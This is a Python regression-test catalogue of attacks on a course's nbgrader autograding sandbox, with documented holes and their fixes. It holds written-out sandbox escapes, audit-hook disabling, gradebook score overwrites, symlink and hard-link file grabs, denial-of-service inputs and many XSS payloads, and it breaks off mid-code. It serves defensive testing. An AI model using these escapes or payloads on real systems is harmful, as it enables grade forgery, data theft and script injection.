"""The attack catalogue: submissions that try to forge a grade or harm the grading.

Each attack is a submission built from the solution notebook or from the untouched release,
with cells added or changed (and, for some, its submission folder tampered with) the way a
student who has read the course's library and the grading code (every student has both)
might. ``test_attacks.py`` autogrades them with real ``nbgrader autograde`` and the course's
configuration, between two honest students, and checks that every attack

* earns no point it does not deserve (``spares``: what its honest part, if any, may keep;
  ``honest=True``: a submission an honest student can make by accident, which must keep
  full marks);
* harms no one: the honest students keep full marks; no file outside the sandboxes
  changes (the host's /tmp and TMPDIR, the course's gradebook, source and other students'
  files); no process and no cgroup is left behind; feedback shows no hidden-test line and
  nothing of another student or of the gradebook; no script of a student's reaches the
  instructor's Formgrader page or the feedback;
* is named in the review (``named``: patterns that must all appear in what the instructor
  sees about that student: ``course-review.json`` and nbgrader's log lines about the
  student, "needs a look" or its own errors).

Three grading runs, side by side: lesson 04 (NumPy; most attacks), lesson 12 (torch: the
routes that need torch or the checks' helpers) and a run with TMPDIR elsewhere and the course
directory a copy of the repository in another folder. Attacks whose harm would be to take
minutes (``measure``) are measured on the component that nbgrader calls, with a time bound,
instead of being put through nbgrader: the test stays quick whether or not the defence is
there.

Attacks that succeed today are listed in :data:`KNOWN_HOLES` with the hole they go through
(:data:`HOLES`): the tests still fail on them, loudly, with that explanation, until the hole
is closed (and then fail again until the entry is removed, so that the list stays true).

A wrong answer used by many attacks: a softmax without the max-shift, normalised over the
whole array, and an entropy in bits; both lose every point on any honest grading.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

from harness import is_test, meta

LESSON = "04_information_theory"
RESIDUAL = "12_residual_networks"
MARK = "course-attack"            # in every file name and payload an attack tries to plant
SECRET = "course-attack-secret"   # in the honest students' notebooks: no one else may see it

#: Files an attack tries to create or change; each must be absent (or unchanged) after.
#: ``{course}`` is the scratch course directory, ``{root}`` the repository.
TARGETS = [
    "{course}/gradebook-forged.txt",
    "{root}/source_lib/FORGED",
    "{root}/.venv/lib/python3.11/site-packages/zz_course_attack.pth",
    "/root/.ipython/profile_default/startup/00-course-attack.py",
    "/tmp/course-attack-escaped",
    "/dev/shm/course-attack-escaped",
    "/var/tmp/course-attack-escaped",
]

# --------------------------------------------------------------------------- #
# Holes: what this catalogue found going through the grading, each with its fix. All are
# closed (KNOWN_HOLES is empty); the texts stay as the record of why the grading is built
# the way it is, and for the failure message of an attack that would go through again.
# --------------------------------------------------------------------------- #

HOLES = {
    "H1": "library code evaluates strings: typing.get_type_hints (and functools.singledispatch's "
          "register, which calls it) eval()s string annotations with the student's globals. The "
          "reader never looks inside strings, and the audit hook attributes what the evaluated "
          "code does to '<string>', not to the student ('<cell>'), so exec, compile, "
          "sys._getframe, frame attributes and imports are all allowed from there. Fix: "
          "attribute by *every* frame of the stack (any frame of the student's code, or of code "
          "compiled outside the read roots, makes the event the student's), and refuse "
          "typing.get_type_hints / ForwardRef evaluation (or string annotations) in graded code.",
    "H2": "the audit hook runs the student's code with the guard off: for an 'open' event it "
          "calls os.fsdecode/os.path.realpath on the path object, and a str subclass's methods "
          "(startswith, __getitem__...) then run inside the hook, where the re-entrancy flag "
          "`inside` makes every event pass; from there the closure list `inside` is reachable "
          "(inspect.getargvalues(frame).locals) and one append turns the guard off for good. "
          "np.load(Key('...')) is enough, and the reader sees nothing (np.load is allowed). "
          "Fix: in the hook, convert the path with str(path) / bytes(path) on an exact copy "
          "(type(path) in (str, bytes), else refuse) before calling anything on it, never call "
          "code of the student's inside the hook, and keep the flag out of reach (a C-level "
          "guard or a thread-local that no Python object exposes).",
    "H3": "code of a cell that no exercise uses costs nothing (only a review note), but it runs, "
          "and the runtime refuses only audited events: `globals().update(lse=np.logaddexp)` in "
          "a scratch cell hands an exercise a forbidden routine under a name that no statement "
          "binds visibly. Fix: a name read by an exercise's code that no top-level statement "
          "binds (and that is no built-in) refuses that exercise; or refused code in any cell "
          "is not run at all (the worker runs only statements the reader accepted).",
    "H4": "an exercise whose solution cell is gone is not read at all: the reader reads the "
          "code of each *solution cell*, so a student who deletes the cell and defines the "
          "function in a cell of their own, or whose solution cell's metadata is invalid "
          "(repair_metadata turns it into an ordinary cell), is graded on code the allowlist "
          "never saw (forbidden routines and refused imports cost nothing). Fix: an exercise's "
          "code is the closure of its *name* over every student statement that binds it, "
          "wherever it is.",
    "H5": "a built-in's name bound anywhere (`def _unused(vars, getattr): pass`, or "
          "`vars = vars`) makes the reader accept it everywhere: `bound` is one set for the "
          "whole notebook, so `vars(np)['log' + 'addexp']` and `getattr(np, computed)` pass. "
          "Fix: resolve names by scope (symtable): a built-in name is the student's only where "
          "it is a local or a parameter of the enclosing function, and a top-level rebinding of "
          "an unsafe built-in is itself refused.",
    "H6": "a module reached through any expression but a dotted name is not followed: "
          "`[np][0].logaddexp`, a module passed as a parameter, `[typing][0].sys.modules['os']`. "
          "The reader's module checks (resolve, private names, forbidden routines) apply only "
          "to paths that start at an imported name, and nothing at run time checks attribute "
          "reads or modules already imported (importing os or sys raises no audit event once "
          "they are in sys.modules). From `os` the executor's own socket is a file descriptor "
          "away (os.read/os.write/os.fstat are not audited), and `.logaddexp` is read by the "
          "forbidden routine's own name. Fix: refuse an attribute whose name is that of a "
          "module or of a forbidden routine however its owner is written (the `owner is None` "
          "case), remove forbidden routines and non-allowed modules from the executor's "
          "modules before the student's code runs (del numpy.logaddexp... in the executor; "
          "sys.modules pruned of os/sys/subprocess...), and give the student's namespace a "
          "builtins without __import__ for modules outside the allowlist. (The socket stays "
          "within reach of code in the executor's process; every reply of the executor now "
          "carries a token only its stack holds, and a reply without it is forged: it fails "
          "the submission and is named.)",
    "H7": "whether a call modified its inputs is the executor's report after all: the broker "
          "resolves only the {'$same': ...} references the executor chooses to send; a reply "
          "whose 'args' are plain arrays (copies made before the call) is believed. Fix: the "
          "broker builds the 'args' and 'kwargs' of every reply itself from the arena (every "
          "leaf it placed for this request, as it is now), ignoring the executor's.",
    "H8": "refusals at run time are not named: the audit hook's list `refused` is never sent "
          "to the trusted side, so an attempt whose exception the student's code catches leaves "
          "no trace in the review. Fix: every reply carries the refusals since the last one (and "
          "the broker keeps them beside the status), and the review lists them.",
    "H9": "the reader is quadratic in the number of problems it finds (`(line, reason) not in "
          "found` over a list, `note not in reading.review`, `r not in reading.refused[...]`), "
          "and nothing bounds the time it takes: a 60,000-line cell of `x = eval(1)` takes "
          "minutes of nbgrader's own process, and a few such cells hours, for everyone after. "
          "Fix: sets or dicts for the seen reasons, a cap on what is kept (the first 100 "
          "reasons), and a cap on the code read (lines, bytes) beyond which the exercise is "
          "refused as unreadable.",
    "H10": "a notebook's number of cells is not bounded: 10^6 empty cells weigh 46 MB (under "
           "the 64 MiB cap), and nbgrader reads and validates them several times (minutes and "
           "gigabytes of its own process). Fix: clean_folder also sets aside a notebook with "
           "more than a few thousand cells or outputs (json.load of 46 MB takes a second).",
    "H11": "markdown's script links are disarmed into a live link: _disarm_markdown replaces "
           "'javascript:' by 'javascript&#58;', and the markdown renderer (mistune, in "
           "nbconvert: Formgrader and feedback) decodes the entity in a link destination, so "
           "`[a](javascript:alert(1))` becomes <a href=\"javascript:alert(1)\">. Fix: remove the "
           "link (keep its text), or replace the scheme by something that decodes to no "
           "scheme ('#blocked-'), and check the rendered HTML rather than the markdown.",
    "H12": "a file of the submission folder that is a hard link is copied like any file: a "
           "hard link to gradebook.db (or to a classmate's notebook) in the folder is copied by "
           "nbgrader into autograded/ and then into the student's feedback/. (A student can make "
           "one only to files they may already read, or where the grader's folders share a "
           "file system with theirs; clean_folder is the place to refuse st_nlink > 1.)",
    "H13": "the extra files of a submission are not bounded: nbgrader copies every file of the "
           "folder into autograded/ and again into feedback/, densely (a 4 GiB sparse file "
           "becomes 8 GiB of disk), and 20,000 files are copied one by one. Fix: clean_folder "
           "sets aside (or removes) files beyond a size and a count.",
    "H14": "a submission whose cells, escaped as JSON (\\uXXXX for every non-ASCII character), "
           "exceed the broker's 64 MiB message limit is never read: the broker raises before "
           "reading the body, answers 'garbage' and then reads the body as further headers; the "
           "trusted side waits for each request's whole deadline (60 s), so a 24 MB notebook "
           "costs three minutes and all its points, with time-out messages that blame the "
           "student's functions. Fix: the trusted side checks the size before sending (and says "
           "so), and the broker reads and discards an oversized body (or ends).",
    "H16": "a library class patched through an object (`type(x).attr = value`) is seen by "
           "no one: the reader's `patches` follows only module paths, and CPython audits "
           "object.__setattr__ only for __class__ and for the object.__setattr__ wrapper, not for "
           "an ordinary assignment to a class's attribute, so STUDENT_REFUSED's "
           "'object.__setattr__' never fires for it. The checks' helpers run in the same process: "
           "Parameter.grad made a property of the student's makes _state_of read what the student "
           "wants. Fix: refuse assignments whose target's owner is not a name the student's code "
           "binds (`type(...).x = `, `obj.__class__.x =`, setattr on anything but the student's "
           "own objects), and run the checks' helpers in a fresh executor forked before the "
           "student's code runs (or in the broker) with copies of the data only.",
    "H17": "a markdown cell that shows an attachment the sanitiser removed (an SVG) makes "
           "nbconvert raise (missing attachment): Formgrader cannot show that submission and "
           "generate_feedback fails for it. Fix: when an attachment is removed, rewrite the "
           "references to it (attachment:name) in the cell's markdown.",
    "H15": "changed, deleted or disguised test cells are restored silently: the review does "
           "not say that a test cell was emptied, replaced, deleted or turned into a 100-point "
           "cell, nor that a fake test cell was added. Fix: _apply notes every test cell whose "
           "source or metadata differs from the instructor's, and every cell whose grade flag it "
           "turns off, in review['submission'].",
}

#: attack name -> {aspect: hole}: the attacks that succeed today. An aspect is "points"
#: (earns points it does not deserve), "named" (the review does not name it), "harm" (it
#: changes something outside its sandbox), "measure" (a measured attack over its bound).
KNOWN_HOLES = {}   # filled in below, next to the attacks

# --------------------------------------------------------------------------- #
# Shared pieces of the attacks' code
# --------------------------------------------------------------------------- #

WRONG_SOFTMAX = '''
def softmax(z, axis=-1):
    """No max-shift, and normalised over the whole array instead of along `axis`."""
    e = np.exp(np.asarray(z, dtype=float))
    return e / e.sum()
'''

WRONG_ENTROPY = '''
def entropy(p):
    """In bits, not nats."""
    p = np.asarray(p, dtype=float)
    safe = np.where(p > 0, p, 1.0)
    H = -np.sum(p * np.log2(safe), axis=-1)
    return float(H) if H.ndim == 0 else H
'''

#: The forbidden routine (np.logaddexp: its reduce is NumPy's own log-sum-exp) once reached:
#: a right and stable softmax / log_softmax.
WITH_LSE = '''
def _softmax_with(lse, z, axis):
    z = np.asarray(z, dtype=float)
    return np.exp(z - lse.reduce(z, axis=axis, keepdims=True))


def _log_softmax_with(lse, z, axis):
    z = np.asarray(z, dtype=float)
    return z - lse.reduce(z, axis=axis, keepdims=True)
'''

#: H1: exec of any text, through typing.get_type_hints (what it runs is not the student's).
TYPING_EXEC = '''
import typing


def _course_attack_hint(source: "lambda source, scope: exec(source, scope)"):
    pass


def _run(source, **scope):
    typing.get_type_hints(_course_attack_hint)["source"](source, scope)
    return scope
'''

#: H2: the audit hook turned off for good, from code the reader accepts (np.load is allowed).
GUARD_OFF = '''
import dataclasses


class _Key(str):
    def startswith(self, *args):
        inspect = [dataclasses][0].inspect       # a module through an expression (H6)
        for info in inspect.stack(0):
            seen = inspect.getargvalues(info.frame).locals
            if "inside" in seen and isinstance(seen["inside"], list) and not seen["inside"][1:]:
                seen["inside"].append(True)
        return False


def _guard_off():
    try:
        np.load(_Key("/nonexistent/course-attack"))
    except Exception:
        pass
    return [dataclasses][0].sys.modules["os"]
'''

#: H6: os, sys and any module the executor imported, from a module the allowlist allows.
MODULES = '''
import typing

_modules = [typing][0].sys.modules
'''


def _wrong(**extra):
    answers = {"softmax": WRONG_SOFTMAX, "entropy": WRONG_ENTROPY}
    answers.update(extra)
    return answers


def _drop_test_cells(nb):
    nb.cells = [c for c in nb.cells if not is_test(c)]


def _empty_test_cells(nb):
    for c in nb.cells:
        if is_test(c):
            c.source = "pass"


def _forge_metadata(nb):
    """Test cells become solution cells worth 100 points; a fake test cell and a fake
    manually graded markdown cell appear."""
    import nbformat

    for c in nb.cells:
        info = meta(c)
        if info.get("grade") and not info.get("solution"):
            info.update(points=100, solution=True, locked=False)
            c.source = "print('full marks')"
    fake = nbformat.v4.new_code_cell("print('ok')")
    fake.metadata["nbgrader"] = {"grade": True, "grade_id": "test_bonus", "points": 50,
                                 "solution": False, "locked": True, "schema_version": 3,
                                 "task": False}
    task = nbformat.v4.new_markdown_cell("Bonus: full marks.")
    task.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus_essay", "points": 50,
                                 "solution": True, "locked": False, "schema_version": 3,
                                 "task": False}
    nb.cells += [fake, task]


def _results_into_outputs(nb):
    """Test cells that print a number, as partial credit, with the answers still wrong."""
    for c in nb.cells:
        if is_test(c):
            c.source = "1000"


def _find(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == grade_id)


# --------------------------------------------------------------------------- #
# The attack
# --------------------------------------------------------------------------- #

@dataclass
class Attack:
    """A submission.

    ``base`` ("solution", "release", or "completed": the release with the solution's answers,
    what an honest student submits): the notebook it starts from; ``answers``: grade_id ->
    source of solution cells replaced; ``prelude``: a cell added after the set-up cell;
    ``edit(nb)``: any change of the notebook; ``write(path, nb)``: how the notebook file is
    written (nbformat by default); ``folder(folder, course_root)``: what is done to the
    submission folder after the notebook is in it.

    ``spares``: exercises an attack on the solution may keep (its honest part); ``keeps``:
    whether it must keep them; ``honest``: an honest student's accident, which must keep
    full marks. ``named``: regular expressions that must all appear in what the instructor
    sees about this student (None: nothing is required, for a reason said in ``why``).
    ``preflight()``: None when the attack can go through nbgrader, else why not (it would
    take minutes or fill the disk: the defence is missing), checked before submitting.
    ``measure(workdir)``: instead of nbgrader, a bounded measurement on the component that
    nbgrader calls; returns None, or what went wrong.
    """

    name: str
    why: str
    family: str
    lesson: str = LESSON
    base: str = "release"
    answers: dict = None
    prelude: str = ""
    edit: object = None
    write: object = None
    folder: object = None
    spares: tuple = ()
    keeps: bool = False
    honest: bool = False
    named: tuple = (".",)
    preflight: object = None
    measure: object = None
    run: str = "main"          # which grading run: "main" (lesson 04), "torch" (12), "elsewhere"

    @property
    def student(self):
        return f"attack-{self.name}"


def refused(exercise):
    return rf"(refused|shortcut) \({exercise}\)"


SUBMISSION = r"(submission: |needs a look: attack-[\w-]+: )"
FLAGGED = r"needs a look: attack-"


# --------------------------------------------------------------------------- #
# Folders, written notebooks and measurements
# --------------------------------------------------------------------------- #

def _honest_notebook(course_root, student="aaa-honest"):
    return Path(course_root) / "submitted" / student / LESSON / f"{LESSON}.ipynb"


def _symlinks(folder, course_root):
    (folder / "gradebook.db").symlink_to(Path(course_root) / "gradebook.db")
    (folder / "classmate.ipynb").symlink_to(_honest_notebook(course_root))
    (folder / "etc").symlink_to("/etc")
    (folder / "home").symlink_to(Path.home())
    (folder / "deep").mkdir()
    (folder / "deep" / "course-attack-up").symlink_to("../../../../")


def _notebook_is_a_link(folder, course_root):
    notebook = folder / f"{LESSON}.ipynb"
    notebook.unlink()
    notebook.symlink_to(_honest_notebook(course_root))


def _folder_is_a_link(folder, course_root):
    import shutil

    shutil.rmtree(folder)
    folder.symlink_to(_honest_notebook(course_root).parent)


def _student_is_a_link(folder, course_root):
    import shutil

    student = folder.parent
    shutil.rmtree(student)
    student.symlink_to(Path(course_root) / "submitted" / "zzz-honest")


def _special_files(folder, course_root=None):
    os.mkfifo(folder / "course-attack.fifo")
    os.mknod(folder / "course-attack-zero.bin", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    os.mknod(folder / "course-attack.sock", 0o666 | stat.S_IFSOCK)   # (bind: paths too long)


def _hard_links(folder, course_root):
    os.link(Path(course_root) / "gradebook.db", folder / "course-attack-gradebook.db")
    os.link(_honest_notebook(course_root), folder / "course-attack-classmate.ipynb")


def _bulk(folder, course_root=None):
    with open(folder / "course-attack-data.bin", "wb") as f:   # sparse: 4 GiB, no disk
        f.truncate(4 << 30)
    many = folder / "many"
    many.mkdir()
    for i in range(20_000):
        (many / f"{i}.txt").write_text("x")


def _replica(make):
    """A throw-away folder made by ``make(folder)``, to see what clean_folder does with it."""
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="course-attack-preflight-"))
    folder = base / "submitted" / "mallory" / LESSON
    folder.mkdir(parents=True)
    (folder / f"{LESSON}.ipynb").write_text("{}")
    make(folder)
    return base, folder


def _cleaned_within(make, seconds, what):
    """Preflight: clean_folder removes or sets aside what ``make`` puts in a folder."""
    import shutil

    from source_lib.grading import submission

    base, folder = _replica(make)
    try:
        start = time.monotonic()
        report = submission.clean_folder(folder)
        took = time.monotonic() - start
        left = [p.name for p in folder.rglob("*") if MARK in p.name or p.name == "many"
                or p.name.endswith(".ipynb") and p.stat().st_size > 1 << 20]
        if left or not report or took > seconds:
            return (f"clean_folder left {what} in the folder ({left[:3]}, report {report[:2]}, "
                    f"{took:.1f} s): nbgrader would copy it")
        return None
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _write_million_cells(path, nb):
    import nbformat

    data = json.loads(nbformat.writes(nb))
    data["cells"] += [{"cell_type": "raw", "metadata": {}, "source": ""}] * 1_000_000
    Path(path).write_text(json.dumps(data, separators=(",", ":")))


def _million_cells_set_aside():
    import nbformat

    def make(folder):
        nb = nbformat.v4.new_notebook()
        _write_million_cells(folder / f"{LESSON}.ipynb", nb)
    return _cleaned_within(make, 10, "a notebook of 10^6 cells")


def _write_too_big(path, nb):
    import nbformat

    data = json.loads(nbformat.writes(nb))
    data["metadata"]["course-attack-filler"] = "x" * (80 << 20)
    Path(path).write_text(json.dumps(data))


def _write_deep_json(path, nb):
    import nbformat

    text = nbformat.writes(nb).rstrip()[:-1]
    Path(path).write_text(text + ',"course-attack-deep":' + "[" * 100_000 + "]" * 100_000 + "}")


EVAL_LINES = 60_000


def _reader_time(workdir):
    """Measure: reading a cell of 60,000 refused lines (nbgrader's own process does this)."""
    code = f'''
import time
from source_lib.checks import load
from source_lib.grading.reader import Cell, read_code
body = "".join(f"    x{{i}} = eval(1)\\n" for i in range({EVAL_LINES}))
cells = [Cell("import numpy as np", "setup"),
         Cell("def softmax(z, axis=-1):\\n" + body, "solution", "softmax"),
         Cell("".join(f"y{{i}} = eval(1)\\n" for i in range({EVAL_LINES})), "student")]
start = time.monotonic()
read_code(cells, load("{LESSON}"))
print(time.monotonic() - start)
'''
    return _bounded_python(code, 15, f"reading {EVAL_LINES:,} refused lines")


def _oversized_start(workdir):
    """Measure: a request to a worker whose cells exceed the broker's message limit, as
    JSON, must come back (with an answer or a failure) within seconds."""
    code = '''
import time
from source_lib.grading.remote import WorkerProcess
big = "x = '" + "\\u00e9" * 12_000_000 + "'\\n"   # 24 MB of UTF-8, 72 MB escaped as JSON
p = WorkerProcess(["import numpy as np", big, "def f():\\n    return 1\\n"], ["numpy", "math"])
start = time.monotonic()
try:
    p.request({"op": "call", "target": {"name": "f"}, "args": [], "kwargs": {"$d": []}}, 5)
except Exception as err:
    pass
finally:
    p.kill()
print(time.monotonic() - start)
'''
    return _bounded_python(code, 20, "one request to a worker holding 24 MB of non-ASCII text")


def _bounded_python(code, seconds, what):
    """Run ``code`` in a Python of its own for at most ``seconds``; None, or what went wrong.
    A run stopped at its bound takes its sandboxes and their cgroups with it."""
    import signal

    python = str(Path(sys.executable))
    with subprocess.Popen([python, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          text=True, start_new_session=True) as proc:
        try:
            stdout, stderr = proc.communicate(timeout=seconds)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.communicate()
            _remove_cgroups(proc.pid)
            return f"{what} took more than {seconds} s (stopped there)"
    _remove_cgroups(proc.pid)
    if proc.returncode != 0:
        return f"{what} failed: {stderr.strip()[-500:]}"
    took = float(stdout.strip().splitlines()[-1])
    return None if took <= seconds else f"{what} took {took:.1f} s"


def _remove_cgroups(pid):
    """The sandboxes' cgroups of a process that was stopped before it could remove them."""
    from source_lib.grading import sandbox

    kind, base = sandbox.cgroup_support()
    if kind is None:
        return
    bases = [base] if kind == "v2" else list(base.values())
    dirs = [d for b in bases for d in Path(b).glob(f"course-sandbox-{pid}-*")]
    if dirs:
        sandbox.Cgroup(kind, dirs).destroy()


# --------------------------------------------------------------------------- #
# Markup: everything that could carry a script to the instructor's page
# --------------------------------------------------------------------------- #

def _markup(nb):
    import nbformat

    m = MARK
    md = nbformat.v4.new_markdown_cell(
        f"<script>alert('{m}-md-script')</script>\n\n"
        f"<img src=x onerror=\"alert('{m}-md-onerror')\">\n\n"
        f"[inline](javascript:alert('{m}-md-inline')) [ref][r] [spaced]( JaVaScRiPt:alert('{m}-md-case'))\n\n"
        f"[r]: javascript:alert('{m}-md-ref')\n\n"
        f"[entity](javascript&#58;alert('{m}-md-entity')) [named](javascript&colon;alert('{m}-md-colon'))\n\n"
        f"[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert('{m}-md-auto')>\n\n"
        f"$\\href{{javascript:alert('{m}-md-mathjax')}}{{x}}$\n\n"
        f"<svg onload=\"alert('{m}-md-svg')\"></svg> <iframe src=\"javascript:alert('{m}-md-iframe')\"></iframe>")
    raw = nbformat.v4.new_raw_cell(f"<script>alert('{m}-raw-cell')</script>",
                                   metadata={"format": "text/html", "raw_mimetype": "text/html"})
    code = nbformat.v4.new_code_cell("print('hello')")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": f"<script>alert('{m}-output-html')</script>",
            "image/svg+xml": f"<svg onload=\"alert('{m}-output-svg')\"></svg>",
            "application/javascript": f"alert('{m}-output-js')",
            "text/markdown": f"[x](javascript:alert('{m}-output-md'))",
            "application/vnd.jupyter.widget-view+json": {"model_id": f"{m}-widget"},
            "text/plain": "hello"}),
        nbformat.v4.new_output("display_data", data={
            "image/png": f"\"><script>alert('{m}-output-png')</script>"}),
        nbformat.v4.new_output("error", ename=f"<script>alert('{m}-ename')</script>",
                               evalue=f"<script>alert('{m}-evalue')</script>",
                               traceback=[f"<script>alert('{m}-traceback')</script>"]),
        nbformat.v4.new_output("stream", name="stdout",
                               text=f"<script>alert('{m}-stream')</script>"),
    ]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {
        "x": {"model_name": "HTMLModel", "state": {"value": f"<script>alert('{m}-widget')</script>"}}}}}
    nb.cells[1:1] = [md, raw, code]


def _svg_attachment(nb):
    """A markdown cell that shows an SVG attachment (an image type that can carry script)."""
    import nbformat

    md = nbformat.v4.new_markdown_cell(f"![figure](attachment:{MARK}.svg)")
    md.attachments = {f"{MARK}.svg": {"image/svg+xml": f"<svg onload=\"alert('{MARK}-attachment')\"/>"}}
    nb.cells.insert(1, md)


def _huge_outputs(nb):
    """1 GiB printed as 40 long lines, as the notebook would store it (under the 64 MiB cap:
    48 MiB of stream in 40 lines, 40 outputs of 200 KiB each)."""
    import nbformat

    code = nbformat.v4.new_code_cell("for i in range(40):\n    print('x' * (1 << 30 // 40))")
    line = "x" * (1200 << 10) + "\n"
    code.outputs = [nbformat.v4.new_output("stream", name="stdout", text=line * 40)] + [
        nbformat.v4.new_output("display_data", data={"text/plain": "y" * (200 << 10)})
        for _ in range(40)]
    nb.cells.insert(2, code)


# --------------------------------------------------------------------------- #
# Honest accidents
# --------------------------------------------------------------------------- #

def _pasted_twice(nb):
    """Jupyter's copy and paste of a test cell and of a solution cell (metadata and all)."""
    import copy
    import uuid

    for gid in ("test_entropy", "softmax"):
        index = _find(nb, gid)
        pasted = copy.deepcopy(nb.cells[index])
        pasted["id"] = uuid.uuid4().hex[:8]
        nb.cells.insert(index + 1, pasted)


def _bad_metadata(nb):
    """A test cell without points, another with another nbgrader's schema."""
    del nb.cells[_find(nb, "test_entropy")].metadata["nbgrader"]["points"]
    nb.cells[_find(nb, "test_softmax")].metadata["nbgrader"]["schema_version"] = 1


# --------------------------------------------------------------------------- #
# Routes that need the notebook to lose or break a solution cell (H4)
# --------------------------------------------------------------------------- #

def _solution_elsewhere(nb):
    import nbformat

    del nb.cells[_find(nb, "softmax")]
    nb.cells.insert(_find(nb, "test_softmax"), nbformat.v4.new_code_cell(
        WITH_LSE + "\n\ndef softmax(z, axis=-1):\n    return _softmax_with(np.logaddexp, z, axis)\n"))
    log = nb.cells[_find(nb, "log_softmax")]
    log.source = WITH_LSE + "\n\ndef log_softmax(z, axis=-1):\n" \
                            "    return _log_softmax_with(np.logaddexp, z, axis)\n"
    log.metadata["nbgrader"]["schema_version"] = 1     # repaired into an ordinary cell


def _reference_text():
    """The reference library's text, as a student would paste it (its import of the
    validation helpers replaced by their text)."""
    import source_lib

    base = Path(source_lib.__file__).parent
    validation = (base / "validation.py").read_text()
    information = (base / "information.py").read_text()
    information = "\n".join(line for line in information.splitlines()
                            if not line.startswith("from source_lib"))
    return validation + "\n\n" + information


def _paste_reference(nb):
    text = _reference_text()
    for gid in ("entropy", "cross_entropy", "kl_divergence", "softmax", "log_softmax",
                "softmax_cross_entropy"):
        nb.cells[_find(nb, gid)].source = text


# --------------------------------------------------------------------------- #
# The catalogue
# --------------------------------------------------------------------------- #

ATTACKS = [
    # ---- the first round's catalogue ------------------------------------------------
    Attack("patch-checks", "replace the course's check runner and comparison from a cell",
           "tampering", answers=_wrong(), named=("tampering",), prelude='''
import source_lib.checks, source_lib.testing
source_lib.checks.Lesson.run = lambda self, *a, **k: None
source_lib.checks.Lesson.verdict = lambda self, *a, **k: None
source_lib.testing.assert_close = lambda *a, **k: None
'''),
    Attack("patch-numpy", "make NumPy's comparisons always agree", "tampering",
           answers=_wrong(), named=("tampering",), prelude='''
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.linalg.norm = lambda *a, **k: 0.0
np.isfinite = lambda x: np.ones(np.shape(x), dtype=bool)
'''),
    Attack("setprofile-off", "switch the runtime shortcut guard off, then call scipy's softmax",
           "runtime guard", named=(refused("softmax"),), answers=_wrong(softmax='''
def softmax(z, axis=-1):
    import sys
    sys.setprofile(None)
    import scipy.special
    return scipy.special.softmax(z, axis=axis)
''')),
    Attack("shortcut-thread", "call the forbidden routine from a thread the guard does not watch",
           "runtime guard", named=(refused("softmax"),), answers=_wrong(softmax='''
def softmax(z, axis=-1):
    import threading
    import scipy.special
    out = {}
    t = threading.Thread(target=lambda: out.update(r=scipy.special.softmax(z, axis=axis)))
    t.start(); t.join()
    return out["r"]
''')),
    Attack("shortcut-getattr", "reach the forbidden routine by a string", "reader evasion",
           named=(refused("softmax"),), answers=_wrong(softmax='''
def softmax(z, axis=-1):
    mod = __import__("scipy.special", fromlist=["x"])
    return getattr(mod, "soft" + "max")(z, axis=axis)
''')),
    Attack("shortcut-reference", "call the course's reference library", "reader evasion",
           named=(refused("softmax"),), answers=_wrong(softmax='''
def softmax(z, axis=-1):
    return ref.softmax(z, axis=axis)
''')),
    Attack("shortcut-exec-solution", "read the instructor's solution from disk and run it",
           "reader evasion", named=(refused("softmax"),), answers=_wrong(softmax='''
def softmax(z, axis=-1):
    import glob, json
    for path in glob.glob("/**/solutions/04_*/*.ipynb", recursive=True):
        for cell in json.load(open(path))["cells"]:
            if "def softmax" in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
                return globals()["softmax"](z, axis)
    raise RuntimeError("no solution found")
''')),
    Attack("input-transformer", "an IPython input transformer that empties every test cell",
           "kernel", answers=_wrong(), named=("get_ipython",), prelude='''
get_ipython().input_transformers_post.append(
    lambda lines: [] if any("checks.run" in line for line in lines) else lines)
'''),
    Attack("ast-transformer", "an AST transformer that drops the test cells' calls", "kernel",
           answers=_wrong(), named=("ast",), prelude='''
import ast
class Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        return None
get_ipython().ast_transformers.append(Drop())
'''),
    Attack("custom-exc", "swallow every exception of the test cells", "kernel",
           answers=_wrong(), named=("get_ipython",), prelude='''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
'''),
    Attack("displayhook", "display a number from the student's function: partial credit?",
           "kernel", named=(refused("softmax"),), answers=_wrong(softmax='''
def softmax(z, axis=-1):
    import sys
    sys.displayhook(1000)
    e = np.exp(np.asarray(z, dtype=float))
    return e / e.sum(axis=axis, keepdims=True)
''')),
    Attack("outputs-as-credit", "test cells replaced by a number (partial credit)", "metadata",
           answers=_wrong(), edit=_results_into_outputs, named=(r"test_\w+",)),
    Attack("always-valueerror", "a function that always raises ValueError: validation points? "
           "(nothing to name: it is a wrong answer)", "wrong answer", named=None,
           answers={name: f"def {name}(*args, **kwargs):\n    raise ValueError('no')\n"
                    for name in ("entropy", "cross_entropy", "kl_divergence",
                                 "softmax_cross_entropy")}),
    Attack("delete-tests", "delete every test cell", "metadata", answers=_wrong(),
           edit=_drop_test_cells, named=(r"test_\w+",)),
    Attack("empty-tests", "replace every test cell by `pass`", "metadata", answers=_wrong(),
           edit=_empty_test_cells, named=(r"test_\w+",)),
    Attack("forge-metadata", "test cells turned into 100-point solution cells, a fake test cell "
           "and a fake manually graded cell", "metadata", answers=_wrong(), edit=_forge_metadata,
           named=(r"test_bonus|bonus_essay|error processing assignment",)),
    Attack("write-gradebook", "write into the gradebook and the course directory",
           "files", answers=_wrong(), named=("sqlite3|glob",), prelude='''
import glob, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + glob.glob("../../../gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 100")
        db.commit()
    except Exception:
        pass
for path in glob.glob("../../../"):
    open(path + "gradebook-forged.txt", "w").write("forged")
'''),
    Attack("write-library", "change the course's library on disk", "files",
           answers=_wrong(), named=("glob|open",), prelude=r'''
import glob
for path in glob.glob("/**/source_lib/", recursive=True):
    try:
        open(path + "FORGED", "w").write("x")
        with open(path + "checks/__init__.py", "a") as f:
